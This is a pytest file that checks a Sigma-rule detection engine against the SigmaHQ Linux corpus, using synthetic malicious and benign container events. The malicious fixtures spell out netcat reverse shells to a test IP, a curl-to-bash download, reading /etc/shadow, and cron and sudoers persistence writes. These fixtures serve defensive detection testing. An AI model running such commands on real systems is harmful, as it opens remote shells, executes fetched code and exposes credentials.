"""The compatibility corpus: the 135 unmodified SigmaHQ Linux rules.

Every file either compiles or is reported with file, line and reason: nothing is skipped
silently. The rules that compile must also *work*: realistic events match them.
"""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest
from support.corpus import sigmahq_linux

from coi_watch.events import Ancestor, DnsQuery, Event, FileAccess, NetConnect, ProcExec
from coi_watch.rules.engine import RuleSet
from coi_watch.rules.load import LoadResult, load_rules

NOT_LOADABLE = {  # file -> code; the reasons are in docs/sigma-fields.md
    "net_connection_lnx_back_connect_shell_dev.yml": "E003",
    "file_event_lnx_wget_download_file_in_tmp_dir.yml": "E003",
    "proc_creation_lnx_omigod_scx_runasprovider_executescript.yml": "E003",
    "proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml": "E003",
}


@pytest.fixture(scope="module")
def corpus() -> Path:
    return sigmahq_linux()


@pytest.fixture(scope="module")
def result(corpus: Path) -> LoadResult:
    return load_rules([corpus], include_packs=False)


@pytest.fixture(scope="module")
def rules(result: LoadResult) -> RuleSet:
    return RuleSet.from_load(result)


def test_every_file_is_accounted_for(result: LoadResult, corpus: Path) -> None:
    files = sorted(corpus.rglob("*.yml"))
    assert len(files) == 135
    assert sorted(result.files) == [str(f) for f in files]
    loaded = Counter(r.source.path for r in result.rules)
    failed = Counter(d.source.path for d in result.errors)
    assert all(n == 1 for n in loaded.values())
    assert not set(loaded) & set(failed)
    assert len(loaded) + len(failed) == 135
    print(f"\nSigmaHQ corpus: {len(loaded)} of 135 rules compile, {len(failed)} reported")


def test_reported_rules_say_where_and_why(result: LoadResult) -> None:
    got = {Path(d.source.path).name: d.code for d in result.errors}
    assert got == NOT_LOADABLE
    for d in result.errors:
        assert d.source.line > 1  # the line of the offending field, not just the file
        assert "never match" in d.message and "not observed" in d.message


def test_warnings_are_located(result: LoadResult) -> None:
    warnings = [d for d in result.diagnostics if d.severity == "warning"]
    assert [(Path(d.source.path).name, d.code) for d in warnings] == [
        ("file_event_lnx_persistence_sudoers_files.yml", "W103")]
    assert warnings[0].source.line > 1


def proc(*argv: str, exe: str, parent: tuple[str, str] = ("/bin/bash", "bash"),
         cwd: str = "/root") -> ProcExec:
    return ProcExec(ts_ns=1, wall_ns=1, container="agent", pid=4242, ppid=4000,
                    uid=1_000_000, comm=argv[0].rsplit("/", 1)[-1][:15], exe=exe, argv=argv,
                    cwd=cwd, ancestry=(Ancestor(pid=4000, comm="bash", exe=parent[0],
                                                cmdline=parent[1]),))


MALICIOUS: list[tuple[Event, str]] = [
    (proc("nc", "-e", "/bin/sh", "198.18.0.1", "4444", exe="/bin/busybox"),
     "Potential Netcat Reverse Shell Execution"),
    (proc("/usr/bin/ncat", "-c", "bash", "198.18.0.1", "4444", exe="/usr/bin/ncat"),
     "Potential Netcat Reverse Shell Execution"),
    (proc("python3", "-c", "import pty;pty.spawn('/bin/bash')", exe="/usr/bin/python3.11"),
     "Python Spawning Pretty TTY Via PTY Module"),
    (proc("bash", "-c", "curl http://198.18.0.9/x.sh | bash", exe="/usr/bin/bash"),
     "Linux Shell Pipe to Shell"),
    (proc("chmod", "+x", "/tmp/payload", exe="/bin/busybox"),
     "Chmod Targeting Sensitive Directories"),
    (proc("base64", "-d", "/tmp/blob", exe="/usr/bin/base64"), "Decode Base64 Encoded Text"),
    (proc("cat", "/etc/shadow", exe="/bin/busybox"), "Local System Accounts Discovery"),
    (NetConnect(ts_ns=1, wall_ns=1, container="agent", family=4, proto="tcp",
                src="10.1.1.2", sport=40000, dst="198.18.0.1", dport=4444),
     "Potentially Suspicious Malware Callback Communication"),
    (DnsQuery(ts_ns=1, wall_ns=1, container="agent", family=4, proto="udp", src="10.1.1.2",
              dst="10.1.1.1", qname="tunnel.us.ngrok.com"), "Communication To Ngrok"),
    (DnsQuery(ts_ns=1, wall_ns=1, container="agent", family=4, proto="udp", src="10.1.1.2",
              dst="10.1.1.1", qname="pool.supportxmr.com"), "Linux Crypto Mining Pool"),
    (FileAccess(ts_ns=1, wall_ns=1, container="agent", pid=7, op="close_write",
                path="/etc/cron.d/backdoor"), "New Cron File Created"),
    (FileAccess(ts_ns=1, wall_ns=1, container="agent", pid=7, op="close_write",
                path="/etc/sudoers.d/agent"), "Persistence Via Sudoers.d Files"),
]


@pytest.mark.parametrize(("ev", "title"), MALICIOUS, ids=[t for _, t in MALICIOUS])
def test_realistic_events_match(rules: RuleSet, ev: Event, title: str) -> None:
    titles = [r.title for r, _ in rules.matches(ev)]
    assert any(t.startswith(title) for t in titles), titles


def test_busybox_applets_are_recognised(rules: RuleSet) -> None:
    same_on_busybox = proc("nc", "-e", "/bin/sh", "h", "1", exe="/bin/busybox")
    same_on_debian = proc("nc", "-e", "/bin/sh", "h", "1", exe="/usr/bin/nc.openbsd")
    assert {r.id for r, _ in rules.matches(same_on_busybox)} >= {
        r.id for r, _ in rules.matches(same_on_debian)}


BENIGN = [
    proc("git", "status", exe="/usr/bin/git"),
    proc("python3", "-m", "pytest", "-q", exe="/usr/bin/python3.11"),
    proc("ls", "-la", "/workspace", exe="/bin/busybox"),
    proc("make", "-j8", exe="/usr/bin/make"),
    proc("cargo", "build", "--release", exe="/root/.cargo/bin/cargo"),
    FileAccess(ts_ns=1, wall_ns=1, container="agent", pid=7, op="close_write",
               path="/workspace/src/main.rs"),
    DnsQuery(ts_ns=1, wall_ns=1, container="agent", family=4, proto="udp", src="10.1.1.2",
             dst="10.1.1.1", qname="pypi.org"),
    NetConnect(ts_ns=1, wall_ns=1, container="agent", family=4, proto="tcp",
               src="10.1.1.2", sport=40000, dst="151.101.0.223", dport=443),
]


@pytest.mark.parametrize("ev", BENIGN, ids=lambda e: getattr(e, "cmdline", "") or e.kind)
def test_everyday_work_matches_nothing(rules: RuleSet, ev: Event) -> None:
    assert [r.title for r, _ in rules.matches(ev)] == []
